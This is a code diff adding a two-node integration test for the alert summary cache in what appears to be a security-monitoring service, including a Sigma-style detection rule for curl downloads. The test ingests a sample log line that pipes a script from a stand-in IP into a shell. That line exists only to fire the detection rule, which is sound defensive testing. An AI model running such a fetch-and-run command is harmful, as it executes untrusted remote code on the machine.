@@ -165,6 +165,45 @@ class RedisTwoNodesTest(unittest.TestCase):
         self.assertIn("securityai_redis_errors_total", metrics)
         self.assertIn("securityai_redis_up 1", metrics)
 
+    def test_alert_summary_cache_is_shared_and_invalidated_on_every_node(self):
+        # A long TTL: only the invalidation can make a node see the new alert.
+        self.nodes, self.data_dir = start_nodes(self.redis.url, env={"RATE_LIMIT_PER_MINUTE": "0",
+                                                                     "REDIS_CACHE_TTL_S": "300"})
+        a, b = self.nodes
+        token = a.login()["access_token"]
+        self.assertTrue(wait_for(lambda: health(a).get("status") == "healthy" and health(b).get("status") == "healthy",
+                                 timeout=20))
+        path = "/api/v1/metrics/alerts"
+        status, _, before = a.json("GET", path, token=token)
+        self.assertEqual(status, 200, before)
+        self.assertEqual(before["alerts"], 0)
+        self.assertIn("sai:cache:alerts:", self.redis.cli("--scan", "--pattern", "sai:cache:alerts:*"))
+        self.assertEqual(b.json("GET", path, token=token)[2], before)
+        self.assertRegex(b.request("GET", "/metrics")[2].decode(),
+                         r'securityai_redis_cache_lookups_total\{result="hit"\} [1-9]')
+
+        rule = RULE.encode()
+        status, _, body = b.request("POST", "/api/v1/rules", body=rule,
+                                    headers={"Authorization": "Bearer " + token, "Content-Type": "application/yaml"})
+        self.assertEqual(status, 201, body)
+        self.ingest(b, token, [{"message": "bash -c curl http://198.51.100.9/x.sh | sh", "host": "db-2"}])
+        self.assertTrue(wait_for(lambda: b.json("GET", "/api/v1/alerts?rule=test-curl-download", token=token)[2]["items"],
+                                 timeout=20), "the rule fires on node B")
+        fresh = wait_for(lambda: a.json("GET", path, token=token)[2]["alerts"] == 1, timeout=5)
+        self.assertTrue(fresh, "node A's cached summary was dropped when B opened the alert")
+
+
+RULE = """title: Test rule - curl downloads
+id: test-curl-download
+status: experimental
+logsource: {product: linux}
+detection:
+    selection:
+        message|contains: 'curl http'
+    condition: selection
+level: medium
+"""
+
 
 def wait_event_prefix(ws, prefix, timeout):
     deadline = time.time() + timeout
